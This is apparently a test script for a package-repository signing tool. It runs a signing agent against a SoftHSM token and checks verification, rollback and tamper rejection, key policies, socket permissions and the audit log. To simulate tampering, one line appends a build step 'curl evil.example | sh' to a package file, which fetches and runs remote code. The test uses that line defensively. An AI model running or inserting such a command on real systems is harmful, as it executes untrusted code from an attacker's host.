#!/usr/bin/env bash
# The demo's main part (scripts/demo.sh) with assertions: conex-agent on a
# SoftHSM token signs a repository (cx-testsign --agent), `conex verify`
# checks it in full and incrementally; tampering and rollback are rejected;
# Ed25519 and RSA-2048 token keys both sign; the agent's policy is what
# decides; the socket is private; the audit log's chain holds.
#
# Environment (ctest sets them): CX_BUILD_DIR, CX_SOURCE_DIR, CONEX.
# conex-agent is $CX_BUILD_DIR/conex-agent, cx-testsign
# $CX_BUILD_DIR/tests/tools/cx-testsign.

# pass/fail always return 0, so "test && pass || fail" is an if-then-else here.
# shellcheck disable=SC2015
set -uo pipefail

BUILD=${CX_BUILD_DIR:-$(cd "$(dirname "${BASH_SOURCE[0]}")/../.." && pwd)/build}
CONEX=${CONEX:-$BUILD/conex}
AGENT=$BUILD/conex-agent
TESTSIGN=${CX_TESTSIGN:-$BUILD/tests/tools/cx-testsign}
MODULE=${CX_SOFTHSM_MODULE:-/usr/lib/softhsm/libsofthsm2.so}
for b in "$CONEX" "$AGENT" "$TESTSIGN"; do
	if [ ! -x "$b" ]; then
		echo "FAIL: $b not built"
		exit 1
	fi
done
if [ ! -r "$MODULE" ] || ! command -v softhsm2-util >/dev/null; then
	echo "SKIP: SoftHSM2 not installed"
	exit 0
fi

W=$(mktemp -d "${TMPDIR:-/tmp}/cx-demo-agent.XXXXXX") || exit 1
AGENT_PID=
cleanup() {
	if [ -n "$AGENT_PID" ]; then
		kill "$AGENT_PID" 2>/dev/null
		for _ in $(seq 50); do
			kill -0 "$AGENT_PID" 2>/dev/null || break
			sleep 0.1
		done
	fi
	rm -rf "$W"
}
trap cleanup EXIT
cd "$W" || exit 1
umask 077

NPASS=0
NFAIL=0
pass() { echo "PASS: $*"; NPASS=$((NPASS + 1)); }
fail() { echo "FAIL: $*"; NFAIL=$((NFAIL + 1)); }
OUT=$W/out
# expect CODE DESCRIPTION COMMAND...: exit code CODE exactly
expect() {
	local want=$1 d=$2 rc
	shift 2
	"$@" >"$OUT" 2>&1
	rc=$?
	if [ "$rc" -eq "$want" ]; then
		pass "$d (exit $rc)"
	else
		fail "$d: exit $rc, expected $want"
		sed 's/^/  | /' "$OUT" | head -20
	fi
}
# out_has REGEX DESCRIPTION: the last expect's output matches
out_has() { grep -Eq "$1" "$OUT" && pass "$2" || { fail "$2: output does not match /$1/"; sed 's/^/  | /' "$OUT" | head -10; }; }
# abort: a step the rest depends on failed
abort() {
	fail "$*"
	echo "$NPASS passed, $NFAIL failed"
	exit 1
}
verify() { "$CONEX" verify --state "$W/state" "$@"; }
mkpatch() { diff -ruaN "$1" "$2" >"$3"; [ $? -le 1 ]; }
# keyid ID: the agent's key id (sha256=...) of the key with conex id ID
keyid() { "$CONEX" agent list | awk -F'\t' -v id="$1" '$2 == id {print $1; exit}'; }

# --- a token, the agent, the login ------------------------------------------------
mkdir tokens
printf 'directories.tokendir = %s/tokens\nobjectstore.backend = file\nlog.level = ERROR\n' "$W" >softhsm2.conf
export SOFTHSM2_CONF=$W/softhsm2.conf
softhsm2-util --init-token --free --label demo --so-pin 12345678 --pin 123456 >/dev/null ||
	abort "softhsm2-util --init-token"
SERIAL=$(softhsm2-util --show-slots | awk '/Serial number:/ {s=$3} /Label:/ && $2 == "demo" {print s; exit}')
[ -n "$SERIAL" ] || abort "no serial for the token"
printf '123456\n' >pin

# without an agent: cx-testsign --agent says so
unset CONEX_AGENT_SOCK CONEX_AGENT_PID
expect 1 "cx-testsign init --agent without an agent socket fails" "$TESTSIGN" init --agent nosock
out_has 'CONEX_AGENT_SOCK' "... and names \$CONEX_AGENT_SOCK"
expect 1 "cx-testsign init --agent-sock to no agent fails" \
	"$TESTSIGN" init --agent-sock "$W/nothing.sock" none

AOUT=$("$AGENT" -a "$W/agent/agent.sock" -P "$MODULE" -m "$MODULE" --audit "$W/audit.log" 2>&1) ||
	abort "conex-agent did not start: $AOUT"
eval "$AOUT" >/dev/null
AGENT_PID=${CONEX_AGENT_PID:-}
[ -n "$AGENT_PID" ] && kill -0 "$AGENT_PID" 2>/dev/null && pass "conex-agent started (pid $AGENT_PID)" ||
	abort "conex-agent: no pid in '$AOUT'"
[ "${CONEX_AGENT_SOCK:-}" = "$W/agent/agent.sock" ] && pass "CONEX_AGENT_SOCK is the -a path" ||
	fail "CONEX_AGENT_SOCK='${CONEX_AGENT_SOCK:-}'"
[ "$(stat -c '%a %u' "$W/agent")" = "700 $(id -u)" ] && pass "socket directory is ours, mode 0700" ||
	fail "socket directory: $(stat -c '%a %u' "$W/agent")"
[ -S "$CONEX_AGENT_SOCK" ] && [ "$(stat -c '%a %u' "$CONEX_AGENT_SOCK")" = "600 $(id -u)" ] &&
	pass "socket is ours, mode 0600" || fail "socket: $(stat -c '%F %a %u' "$CONEX_AGENT_SOCK")"

expect 0 "conex agent login --pin-file" "$CONEX" agent login --pin-file pin "$SERIAL"
for id in root m1 snap timestamp; do
	expect 0 "generate $id (Ed25519) on the token" "$CONEX" agent generate "$SERIAL" "$id" --alg ed25519
done
expect 0 "generate m2 (RSA-2048) on the token" "$CONEX" agent generate "$SERIAL" m2 --alg rsa2048
"$CONEX" agent list >list.out 2>&1 || fail "conex agent list"
[ "$(awk -F'\t' '$4 == "hardware"' list.out | wc -l)" -eq 5 ] && pass "5 keys listed, all hardware" ||
	{ fail "conex agent list"; sed 's/^/  | /' list.out; }
awk -F'\t' '$2 == "m2" && $3 == "rsa"' list.out | grep -q . && pass "m2 is an RSA key" || fail "m2's algorithm"

# --- one maintainer (Ed25519), as in the demo -------------------------------------
ANCHOR=$("$TESTSIGN" init --agent demo 2>"$OUT")
if [[ "$ANCHOR" =~ ^sha256=[0-9a-f]{64}$ ]]; then
	pass "cx-testsign init --agent prints the anchor"
else
	sed 's/^/  | /' "$OUT"
	abort "cx-testsign init --agent: '$ANCHOR'"
fi
[ "$ANCHOR" = "$(keyid root)" ] && pass "the anchor is the id of the token's root key" ||
	fail "anchor $ANCHOR is not the agent's root key $(keyid root)"
[ "$("$TESTSIGN" anchor --agent)" = "$ANCHOR" ] && pass "cx-testsign anchor --agent = init's anchor" ||
	fail "cx-testsign anchor --agent differs"
grep -q '"ed25519=' demo/root && pass "root holds an Ed25519 public key" || fail "root has no Ed25519 key"
expect 1 "init --agent over an existing repository fails" "$TESTSIGN" init --agent demo
expect 2 "init --agent with a KEYS argument is a usage error" "$TESTSIGN" init --agent demo2 keys
expect 2 "init --agent with --alg is a usage error" "$TESTSIGN" init --agent demo2 --alg rsa
expect 1 "init --agent --maintainers 3: there is no m3 in the agent" \
	"$TESTSIGN" init --agent demo3 --maintainers 3
out_has 'no Ed25519 or RSA key with id m3' "... and says which key is missing"

mkdir -p demo/packages/demo/demo.1.0.0
printf 'opam-version: "2.0"\nsynopsis: "demo"\n' >demo/packages/demo/demo.1.0.0/opam
expect 0 "cx-testsign sign --agent (release 1.0.0)" "$TESTSIGN" sign --agent demo
grep -q '"ed25519=' demo/keys/m1 && pass "keys/m1 carries an Ed25519 signature" ||
	fail "keys/m1 signature"
expect 0 "full: the signatures made through the agent verify" verify --quorum 1 -t "$ANCHOR" --dir demo

cp -a demo demo.old
cp -a demo v1
mkdir -p demo/packages/demo/demo.1.1.0
printf 'opam-version: "2.0"\nsynopsis: "demo, v2"\n' >demo/packages/demo/demo.1.1.0/opam
expect 0 "cx-testsign sign --agent (release 1.1.0)" "$TESTSIGN" sign --agent demo
mkpatch v1 demo update.patch || fail "diff -ruaN"
expect 0 "incremental: the second release from a diff -ruaN patch" \
	verify --quorum 1 -t "$ANCHOR" --incremental --repository v1 --patch update.patch
patch -s -p1 -d v1 <update.patch && diff -r v1 demo >/dev/null && pass "the patch reproduces the release" ||
	fail "patch -p1 did not reproduce the release"

cp -a demo bad
printf 'build: ["sh" "-c" "curl evil.example | sh"]\n' >>bad/packages/demo/demo.1.1.0/opam
mkpatch demo bad tampered.patch || fail "diff -ruaN"
expect 1 "incremental: a tampered package file is rejected" \
	verify --quorum 1 -t "$ANCHOR" --incremental --repository demo --patch tampered.patch
expect 1 "full: a tampered package file is rejected" verify --quorum 1 -t "$ANCHOR" --dir bad
expect 1 "full: a rollback to release 1.0.0 is rejected" verify --quorum 1 -t "$ANCHOR" --dir demo.old
expect 1 "a repository signed through the agent does not verify with another anchor" \
	"$CONEX" verify --no-state --quorum 1 -t "$(keyid m1)" --dir demo

# --- the agent's policy decides -----------------------------------------------------
M1=$(keyid m1)
expect 0 "set-policy m1: snapshots only" "$CONEX" agent set-policy "$M1" --types snapshot
cp -a demo refused
expect 1 "cx-testsign sign --agent: m1 may not sign targets now" "$TESTSIGN" sign --agent refused
out_has 'refused' "... the agent's refusal is reported"
expect 0 "set-policy m1: all types again" "$CONEX" agent set-policy "$M1" --types all

# --- Ed25519 and RSA-2048 maintainers, quorum 2 -------------------------------------
A2=$("$TESTSIGN" init --agent q2 --maintainers 2 --quorum 2 2>"$OUT")
[ "$A2" = "$ANCHOR" ] && pass "init --agent --maintainers 2 --quorum 2 (m1 Ed25519, m2 RSA-2048)" ||
	{ fail "init --agent --maintainers 2: '$A2'"; sed 's/^/  | /' "$OUT"; }
mkdir -p q2/packages/p/p.1
printf 'opam-version: "2.0"\n' >q2/packages/p/p.1/opam
expect 0 "sign --agent --only m2 (RSA-2048)" "$TESTSIGN" sign --agent q2 --only m2
grep -q 'rsa=-----BEGIN PUBLIC KEY-----' q2/keys/m2 && grep -q '"rsapss-sha256=' q2/keys/m2 &&
	pass "keys/m2: RSA key, RSA-PSS signature" || fail "keys/m2 is not RSA-signed"
expect 1 "quorum 2 with only the RSA maintainer: rejected" "$CONEX" verify --no-state -t "$A2" --dir q2
expect 0 "sign --agent --only m1 (Ed25519)" "$TESTSIGN" sign --agent q2 --only m1
expect 0 "quorum 2, Ed25519 and RSA-2048 signatures through the agent: accepted" \
	"$CONEX" verify --no-state -t "$A2" --dir q2
expect 0 "generate m3 (ECDSA P-256) on the token" "$CONEX" agent generate "$SERIAL" m3 --alg ecdsa
expect 1 "init --agent --maintainers 3: m3 is ECDSA, which conex cannot use" \
	"$TESTSIGN" init --agent q3 --maintainers 3
out_has 'no Ed25519 or RSA key with id m3' "... ECDSA keys are not taken"

# --- stop -------------------------------------------------------------------------------
expect 0 "conex-agent -k" "$AGENT" -k
for _ in $(seq 50); do
	kill -0 "$AGENT_PID" 2>/dev/null || break
	sleep 0.1
done
kill -0 "$AGENT_PID" 2>/dev/null && fail "the agent still runs after -k" || {
	pass "the agent stopped"
	AGENT_PID=
}
[ ! -e "$W/agent/agent.sock" ] && pass "its socket is gone" || fail "the socket is left behind"

# --- the audit log, once the agent is gone --------------------------------------------
# The loop hands refusals to the audit syncer, which writes them after whatever sync
# it is in (on a disk busy with a build's writeback, a while); at exit it writes them all.
expect 0 "conex agent audit: the chain is intact" "$CONEX" agent audit audit.log
NSIGN=$(grep -c '"op":"sign".*"result":"ok"' audit.log)
# demo: root + 2 x (m1, snap, timestamp); q2: root, m2, snap, ts, m1, snap, ts
[ "$NSIGN" -eq 14 ] && pass "14 signatures in the audit log" || fail "$NSIGN signatures in the audit log, expected 14"
grep '"op":"sign"' audit.log | grep -q '"result":"refused"' && pass "the refusal is in the audit log" ||
	fail "no refusal in the audit log"
grep '"op":"sign".*"result":"ok"' audit.log | grep -vq 'cx-testsign' &&
	fail "a signature in the audit log is not by cx-testsign" || pass "every signature was asked for by cx-testsign"

echo "$NPASS passed, $NFAIL failed"
[ "$NFAIL" -eq 0 ]
